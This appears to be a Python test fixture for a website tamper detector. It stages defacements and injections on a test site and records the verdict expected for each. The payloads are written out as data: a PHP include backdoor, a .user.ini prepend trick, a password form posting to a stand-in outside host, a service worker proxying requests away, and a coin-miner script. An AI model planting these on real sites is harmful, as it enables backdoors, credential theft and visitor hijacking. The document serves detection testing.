"""Further attacks: other places, other disguises, other answers. All names in them are ours."""

import gzip
from collections.abc import Callable

from sentinel.core.verdict import Verdict
from support.site_server import Answer
from support.staged.attack import AWAY, CLAIM, SERVER_SIDE, UNSEEN, Attack, D, S, answering
from support.staged.place import Place

MAINTENANCE = "<title>Site under maintenance</title><h1>We will be back soon</h1>"
WORKER = f"self.addEventListener('fetch', e => e.respondWith(fetch('{AWAY}' + e.request.url)));"
MINER = (
    "fetch('/m.wasm').then(r=>WebAssembly.instantiateStreaming(r)).then(()=>"
    "new CoinHive.Anonymous('paper-tiger').start());"
)


def third_party_gone(place: Place) -> None:
    place.elsewhere.routes["/lib.js"] = (404, {}, "")


def program_changed(place: Place) -> None:
    place.edit("tools/count.php", "<?php", "<?php @include $_GET['p'];")


def user_ini(place: Place) -> None:
    place.file(".user.ini").write_text("auto_prepend_file=images/wells.png\n")


def new_folder(place: Place) -> None:
    folder = place.file("wp")
    folder.mkdir()
    (folder / "index.html").write_text(CLAIM)


def data_file(place: Place) -> None:
    place.edit("stations.json", "Ranchi Road", "Hacked by Paper Tiger Crew")


def site_icon(place: Place) -> None:
    place.file("favicon.ico").write_bytes(place.file(place.names.other_image).read_bytes())


def every_page(place: Place) -> None:
    for page in place.root.rglob("*.html"):
        page.write_text(CLAIM)


def base_address(place: Place) -> None:
    place.edit(place.names.page, "<head>", f'<head><base href="{AWAY}">')


def form_target(place: Place) -> None:
    form = f'<form action="{AWAY}in" method=post><input type=password name=p></form>'
    place.edit(place.names.form, "</body>", f"{form}</body>")


def cover_by_style(place: Place) -> None:
    layer = (
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;"
        "background:#000;color:#f00'><h1>Hacked by Paper Tiger Crew</h1></div>"
    )
    place.edit(place.names.page, "</body>", f"{layer}</body>")


def service_worker(place: Place) -> None:
    place.file("sw.js").write_text(WORKER)
    line = "<script>navigator.serviceWorker.register('/sw.js')</script>"
    place.edit(place.names.page, "</body>", f"{line}</body>")


def coin_miner(place: Place) -> None:
    place.edit(place.names.page, "</body>", f"<script>{MINER}</script></body>")


def ads_file(place: Place) -> None:
    place.file("ads.txt").write_text("paper-tiger.invalid, 1234, DIRECT, f08c47fec0942fa0\n")


def security_file(place: Place) -> None:
    known = place.file(".well-known")
    known.mkdir(exist_ok=True)
    (known / "security.txt").write_text(f"Contact: {AWAY}\nhacked by paper tiger crew\n")


def _home(answer: Answer) -> Callable[[Place], None]:
    return answering("/", answer)


HTML = {"content-type": "text/html; charset=utf-8"}
LISTING = (
    "<html><head><title>Index of /</title></head><body><h1>Index of /</h1><hr><pre>"
    '<a href="../">../</a>\n<a href="index.html.bak">index.html.bak</a> 22-Nov-2026 10:00 1024\n'
    "</pre><hr></body></html>"
)
FORGED = {**HTML, "x-sentinel-block": "INC-20261122-0001", "retry-after": "600"}

E = Verdict.EDITED
UNLINKED = "no page links to it, and it has no name that is asked for by itself"

MORE: tuple[Attack, ...] = (
    Attack(
        name="script of another host gone",
        act=third_party_gone,
        with_files=UNSEEN,
        over_http=UNSEEN,
        why="a script that is missing does nothing to a visitor; the check of links tells of it",
    ),
    Attack(
        name="program changed by a line",
        act=program_changed,
        with_files=D,
        over_http=UNSEEN,
        why=SERVER_SIDE,
    ),
    Attack(name=".user.ini dropped", act=user_ini, with_files=D, over_http=UNSEEN, why=SERVER_SIDE),
    Attack(
        name="new folder that nobody links to",
        act=new_folder,
        with_files=D,
        over_http=UNSEEN,
        why=UNLINKED,
    ),
    Attack(name="data file of a program", act=data_file, with_files=D, over_http=D),
    Attack(name="icon of the site", act=site_icon, with_files=D, over_http=D),
    Attack(name="every page replaced", act=every_page, with_files=D, over_http=D),
    Attack(name="base address", act=base_address, with_files=D, over_http=D),
    Attack(name="form that steals", act=form_target, with_files=D, over_http=D),
    Attack(name="covered by a layer", act=cover_by_style, with_files=D, over_http=D),
    Attack(name="service worker", act=service_worker, with_files=E, over_http=E),
    Attack(name="coin miner", act=coin_miner, with_files=D, over_http=D),
    Attack(name="ads.txt dropped", act=ads_file, with_files=E, over_http=UNSEEN, why=UNLINKED),
    Attack(
        name="security.txt forged", act=security_file, with_files=S, over_http=UNSEEN, why=UNLINKED
    ),
    Attack(
        name="list of files in the place of the home page",
        act=_home((200, HTML, LISTING)),
        with_files=Verdict.DOWN,
        over_http=Verdict.DOWN,
    ),
    Attack(
        name="claim under a forged header of our block",
        act=_home((503, FORGED, CLAIM)),
        with_files=D,
        over_http=D,
    ),
    Attack(
        name="claim on an imitated maintenance page",
        act=_home((200, HTML, f"{MAINTENANCE}<p>Hacked by Paper Tiger Crew</p>")),
        with_files=D,
        over_http=D,
    ),
    Attack(name="claim with status 404", act=_home((404, HTML, CLAIM)), with_files=D, over_http=D),
    Attack(name="claim with status 403", act=_home((403, HTML, CLAIM)), with_files=D, over_http=D),
    Attack(
        name="replaced, compressed",
        act=_home((200, {**HTML, "content-encoding": "gzip"}, gzip.compress(CLAIM.encode()))),
        with_files=D,
        over_http=D,
    ),
    Attack(
        name="replaced, in UTF-16",
        act=_home((200, HTML, CLAIM.encode("utf-16"))),
        with_files=D,
        over_http=D,
    ),
    Attack(
        name="replaced, sent as plain text",
        act=_home((200, {"content-type": "text/plain"}, CLAIM)),
        with_files=D,
        over_http=D,
    ),
    Attack(
        name="replaced, sent as a download",
        act=_home((200, {"content-type": "application/octet-stream"}, CLAIM)),
        with_files=D,
        over_http=D,
    ),
    Attack(
        name="redirect in several hops",
        act=answering(
            "/", (302, {"location": "/go"}, ""), at="/go", then=(302, {"location": AWAY}, "")
        ),
        with_files=D,
        over_http=D,
    ),
)
